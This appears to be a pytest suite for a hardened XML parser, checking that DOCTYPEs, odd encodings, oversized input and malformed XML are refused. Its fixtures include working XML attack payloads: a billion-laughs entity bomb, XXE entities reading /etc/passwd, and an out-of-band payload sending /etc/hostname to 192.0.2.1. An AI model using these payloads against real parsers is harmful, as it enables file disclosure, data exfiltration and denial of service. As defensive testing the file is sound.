"""Hostile XML (faults 26 to 35): refused by the parser's own events, at once, with nothing fetched."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from knowledge.comptes.balises import Counting, XmlRefuse, feed, root
from knowledge.comptes.limites import MAX_ATTRIBUTES, MAX_DEPTH

ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(2, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l1 "ha">{ENTITIES}]><x>&l9;</x>'
ATTACKS = (
    BOMB,
    '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
    '<!DOCTYPE x PUBLIC "-//A//B" "http://192.0.2.1/a.dtd"><x/>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]><x/>',
    "<!DOCTYPE x><x/>",
    '<!-- un commentaire --><?pi?><!DOCTYPE x [<!ATTLIST x a CDATA "b">]><x/>',
    '<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY g SYSTEM'
    " 'http://192.0.2.1/?%f;'>\">%e;]><x>&g;</x>",
    '<!DOCTYPE x [<!NOTATION n SYSTEM "http://192.0.2.1/n">'
    '<!ENTITY e SYSTEM "ftp://192.0.2.1/e" NDATA n>]><x/>',
)
INERT = (
    '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" /></x>',
    '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    ' xsi:schemaLocation="urn:a http://192.0.2.1/a.xsd"/>',
    '<?xml-stylesheet type="text/xsl" href="http://192.0.2.1/a.xsl"?><x/>',
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:include href="http://192.0.2.1/b.xsl"/><xsl:value-of select="document(\'file:///etc/passwd\')"/>'
    "</xsl:stylesheet>",
)


def refusal(data: bytes) -> str:
    with pytest.raises(XmlRefuse) as refused:
        feed(data, Counting())
    return refused.value.code


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_every_doctype_is_refused_in_every_encoding(attack: str, encoding: str) -> None:
    assert refusal(attack.encode(encoding)) == "doctype"


def test_a_doctype_in_small_letters_is_no_xml() -> None:
    assert refusal(b"<!doctype x><x/>") == "mal-forme"


def test_the_word_doctype_in_a_comment_is_harmless() -> None:
    feed(b"<!-- <!DOCTYPE x> --><x/>", Counting())


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "ebcdic-cp-fr", "x-mac-roman", ""])
def test_an_encoding_that_is_not_on_the_list_is_refused(encoding: str) -> None:
    assert refusal(f'<?xml version="1.0" encoding="{encoding}"?><x/>'.encode()) == "encodage"


@pytest.mark.parametrize("data", ["<x/>".encode("utf-32"), "<x/>".encode("utf-32-be")])
def test_utf_32_is_refused(data: bytes) -> None:
    assert refusal(data) == "encodage"


@pytest.mark.parametrize(
    "data",
    [
        b"<x>" * (MAX_DEPTH + 1) + b"</x>" * (MAX_DEPTH + 1),
        b"<x " + b" ".join(b'a%d="1"' % n for n in range(MAX_ATTRIBUTES + 1)) + b"/>",
        b'<x a="' + b"y" * 10_000_001 + b'"/>',
    ],
    ids=["depth", "attributes", "a long value"],
)
def test_what_no_export_has_is_beyond_measure(data: bytes) -> None:
    assert refusal(data) == "demesure"


@pytest.mark.parametrize("document", INERT)
def test_references_are_inert(document: str) -> None:
    feed(document.encode(), Counting())


@pytest.mark.parametrize(
    "data", [b"<x><y></x>", b"<x>", b"<x/>y", b"\x00<x/>", b"<x>&undefined;</x>", b"<x>\x01</x>"]
)
def test_what_is_not_well_formed_is_refused(data: bytes) -> None:
    assert refusal(data) == "mal-forme"


@pytest.mark.parametrize(
    "document",
    [
        "<foo: />", "<:foo/>", "<a:b:c xmlns:a='urn:a'/>", "<foo xmlns:='urn:a'/>", "<?a:b c?><foo/>",
        "<a:foo/>", "<foo a:attr='1'/>", "<a:foo xmlns:a='urn:a'><b xmlns:a=''/></a:foo>",
        "<foo xmlns:xml='urn:a'/>", "<foo xmlns:b='http://www.w3.org/XML/1998/namespace'/>",
        "<foo xmlns:xmlns='urn:a'/>", "<foo xmlns:b='http://www.w3.org/2000/xmlns/'/>",
        "<foo xmlns:a='urn:x' xmlns:b='urn:x'><bar a:c='1' b:c='2'/></foo>",
        "<foo a='1' a='2'/>", "<foo a=1/>", "<foo a='<'/>", "<foo>]]></foo>", "<foo>&</foo>",
        "<foo>&#0;</foo>", "<foo>&#xFFFF;</foo>", "<foo><!-- a -- b --></foo>", "<foo></foo >x",
        "<foo><?xml version='1.0'?></foo>",
        "<foo/><bar/>", "<1foo/>", "<foo", "<?xml encoding='utf-8'?><foo/>", "<foo><![CDATA[x]]</foo>", "",
    ],
)  # fmt: skip
def test_what_the_w3c_calls_not_well_formed_is_refused(document: str) -> None:
    """By kind, after the W3C's conformance suite; the two sets of rules are XML 1.0 and Namespaces 1.0."""
    assert refusal(document.encode()) == "mal-forme"


@pytest.mark.parametrize(
    "document", ["<!-- <!DOCTYPE x> -->", "<?x <!DOCTYPE x>?>", "<y><![CDATA[<!DOCTYPE x>]]></y>"]
)
def test_a_doctype_that_is_only_text_is_none(document: str) -> None:
    feed(f"<x>{document}</x>".encode(), Counting())


@pytest.mark.parametrize("body", ["<x/>", "<x>\x7f</x>", "<a:x xmlns:a='urn:a'><b xmlns:a=''/></a:x>"])
def test_xml_1_1_is_not_read(body: str) -> None:
    assert refusal(f'<?xml version="1.1"?>{body}'.encode()) in {"version-xml", "mal-forme"}


@pytest.mark.parametrize(
    ("declared", "true", "fine"),
    [
        ("utf-8", "utf-8-sig", True), ("UTF-16", "utf-16", True), ("iso-8859-1", "latin-1", True),
        ("iso-8859-1", "utf-8-sig", False), ("utf-8", "utf-16", False), ("utf-16", "utf-8", False),
    ],
)  # fmt: skip
def test_a_declaration_that_the_bytes_contradict_is_refused(declared: str, true: str, fine: bool) -> None:
    data = f'<?xml version="1.0" encoding="{declared}"?><x>é</x>'.encode(true)
    if fine:
        feed(data, Counting())
    else:
        assert refusal(data) in {"encodage", "mal-forme"}


def test_the_root_is_known_from_the_first_element() -> None:
    assert root(b'<a xmlns="urn:b"><never closed') == "{urn:b}a"


@given(st.binary(max_size=200))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    try:
        feed(b"<" + data, Counting())
    except XmlRefuse:
        return
